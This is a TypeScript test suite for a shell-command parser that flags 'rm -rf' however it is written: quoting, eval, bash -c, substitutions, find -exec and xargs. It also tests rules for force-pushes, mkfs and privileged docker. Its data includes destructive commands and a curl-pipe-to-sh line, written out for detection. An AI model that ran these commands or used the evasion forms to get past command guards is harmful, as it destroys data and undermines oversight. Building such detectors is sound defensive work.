// What command lines run: every way we know of to write a command so that it does not look like one.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { commandRule, hasOptions, matchCommand } from './shell-match.ts';
import { readCommandLine, readScript } from './shell.ts';

const RM = commandRule('rm -rf')!;
const worst = (line: string): string => {
  const { commands, unparsed } = readScript(line);
  const matches = commands.map((command) => matchCommand(RM, command));
  return matches.includes('yes') ? 'yes' : matches.includes('maybe') ? 'maybe' : unparsed === undefined ? 'no' : 'unparsed';
};

const HIDDEN = [
  'rm -rf x', 'rm -r -f x', 'rm -fr x', 'rm --recursive --force x', 'rm --recurs --forc x', 'rm -Rf x', 'rm x -rf', '/bin/rm -rf x', '\\rm -rf x', "r''m -rf x", '"rm" "-rf" x', "$'\\x72m' -rf x", 'RM -rf x', 'rm -vrf x',
  'sudo -u root rm -rf x', 'env A=b rm -rf x', "env -S 'rm -rf x'", 'nohup time nice -n 5 rm -rf x', 'timeout -k 3 5 rm -rf x', 'exec rm -rf x', 'command rm -rf x', 'eval "rm -rf x"', 'eval rm -rf x', 'busybox rm -rf x', 'watch -n 1 rm -rf x', 'setsid flock /tmp/l rm -rf x', 'uv run rm -rf x',
  'bash -c "rm -rf x"', "sh -lc 'rm -rf x'", 'zsh -ec "bash -c \'rm -rf x\'"', "cat <<'E' | sh\nrm -rf x\nE", 'bash <<< "rm -rf x"', 'bash <<E\nrm -rf x\nE', "echo 'rm -rf x' | sh", "echo 'rm -rf x' | sudo bash -s", "ssh -p 22 host 'rm -rf x'", 'ssh host rm -rf x', 'su - bob -c "rm -rf x"',
  'a; rm -rf x', 'a && rm -rf x', 'a || rm -rf x', 'a & rm -rf x', 'a | rm -rf x', '(rm -rf x)', '{ rm -rf x; }', '! rm -rf x', 'if a; then rm -rf x; fi', 'while a; do rm -rf x; done', 'for f in a; do rm -rf "$f"; done', 'case a in b) rm -rf x;; esac', 'f() { rm -rf x; }; f',
  'echo $(rm -rf x)', 'echo `rm -rf x`', 'echo "$(rm -rf x)"', 'cat <(rm -rf x)', 'echo ${X:-$(rm -rf x)}', '[[ -n $(rm -rf x) ]]', 'a=(1 $(rm -rf x))', 'cat <<E\n$(rm -rf x)\nE', 'A=$(rm -rf x) ls',
  'find . -exec rm -rf {} \\;', 'find . -name x -ok ls {} \\; -execdir rm -rf {} +', 'ls | xargs -n 1 rm -rf', '{rm,-rf,x}', 'rm -{r,f} x', 'A="-rf x"; rm $A', 'A=rm; $A -rf x', "alias l='rm -rf'; l x", "trap 'rm -rf x' EXIT",
];
for (const line of HIDDEN) test(`seen: ${line}`, () => assert.equal(worst(line), 'yes'));

const OPEN = ['$X -rf x', 'rm $X', 'rm "$(cat f)"', '/bin/r? -rf x', 'ls | xargs rm', 'A=rm; read A; $A -rf x', '$(echo rm) -rf x', 'X=ls; X=rm; $X -rf x'];
for (const line of OPEN) test(`cannot be known: ${line}`, () => assert.equal(worst(line), 'maybe'));

const UNREAD = ["echo 'abc", 'if true; then', 'curl https://a.example | sh', 'base64 -d f | bash', 'eval "$X"', 'bash -c "ls $X"', 'echo $(', 'a\0b', `${'bash -c '.repeat(12)}ls`.replaceAll('bash -c ', 'nohup ')];
for (const line of UNREAD) test(`not all can be read: ${line.slice(0, 40)}`, () => assert.ok(['unparsed', 'maybe'].includes(worst(line)), worst(line)));

const HARMLESS = ['ls -rf', 'rm x', 'rm -r x', 'rm -- "$X"', 'echo "rm -rf x"', 'git commit -m "rm -rf is bad"', "grep 'rm -rf' notes.md", '# rm -rf x\nls', 'command -v rm', 'npm run build && npm test', 'rm *.log', 'rm ~/x', 'cat a > rm', "node -e 'rm -rf x'", 'rmdir -rf x'];
for (const line of HARMLESS) test(`harmless: ${line}`, () => assert.equal(worst(line), 'no'));

test('words, assignments, redirections and places', () => {
  const { commands } = readScript('A=1 /usr/bin/Git.exe log "a b" 2> err.txt | sort &');
  assert.deepEqual(commands.map(({ program, where }) => [program, where]), [['git', 'pipe'], ['sort', 'pipe']]);
  assert.deepEqual(commands[0], { program: 'git', words: [{ text: '/usr/bin/Git.exe' }, { text: 'log' }, { text: 'a b' }], assignments: ['A=1'], redirections: [{ operator: '>', file: { text: 'err.txt' } }], where: 'pipe' });
});

test('arguments without a shell are words as they are', () => {
  const { commands } = readCommandLine({ command: 'echo', argv: ['echo', '$(rm -rf x)', ';', 'rm'], shell: false });
  assert.deepEqual(commands.map(({ program }) => program), ['echo']);
  assert.deepEqual(readCommandLine({ command: 'ls; pwd', argv: ['/bin/sh', '-c', 'ls; pwd'], shell: true }).commands.map(({ program }) => program), ['ls', 'pwd']);
  assert.deepEqual(readCommandLine({ command: 'bash', argv: ['bash', '-c', 'ls'], shell: false }).commands.map(({ program }) => program), ['bash', 'ls']);
});

test('rules of other shapes', () => {
  const match = (rule: string, line: string): string => matchCommand(commandRule(rule)!, readScript(line).commands[0]!);
  assert.equal(match('git push --force', 'git -C x push origin main -f'), 'yes');
  assert.equal(match('git push --force', 'git push origin +main'), 'yes');
  assert.equal(match('git push --force', 'git push --force-with-lease'), 'no');
  assert.equal(match('find -delete', 'find . -name x -delete'), 'yes');
  assert.equal(match('find -delete', 'find . -type d -empty'), 'no');
  assert.equal(match('mkfs*', 'mkfs.ext4 /dev/sda'), 'yes');
  assert.equal(match('chmod 777', 'chmod 0644 x'), 'no');
  assert.equal(match('docker run --privileged', 'docker run $ARGS x'), 'maybe');
  assert.deepEqual(['', 'a | b', 'a > b', '$X', "a 'b"].map(commandRule), [undefined, undefined, undefined, undefined, undefined]);
  assert.ok(hasOptions(readScript('rm -fr x').commands[0]!, ['r', 'force']));
});

test('no text makes it throw, and what it finds is bounded', () => {
  const bits = fc.constantFrom('rm', '-rf', ' ', '$(', ')', '`', '"', "'", '{', '}', ';', '|', '&', '<<E', '\n', 'E', '$X', '\\', '((', '[[', 'bash -c ', 'eval ', 'xargs ', '>', '${', 'if ', 'then ', 'find -exec ', '\u{1F600}');
  fc.assert(fc.property(fc.oneof(fc.string({ maxLength: 60 }), fc.array(bits, { maxLength: 40 }).map((parts) => parts.join(''))), (text) => assert.ok(readScript(text).commands.length <= 512)), { numRuns: 500 });
  for (const text of ['('.repeat(60_000), '$('.repeat(30_000), '`'.repeat(60_000), 'eval '.repeat(12_000), 'a;'.repeat(30_000), '{a,b}'.repeat(5_000), 'a'.repeat(100_000)]) assert.notEqual(readScript(text).unparsed ?? 'read', '', text.slice(0, 8));
});
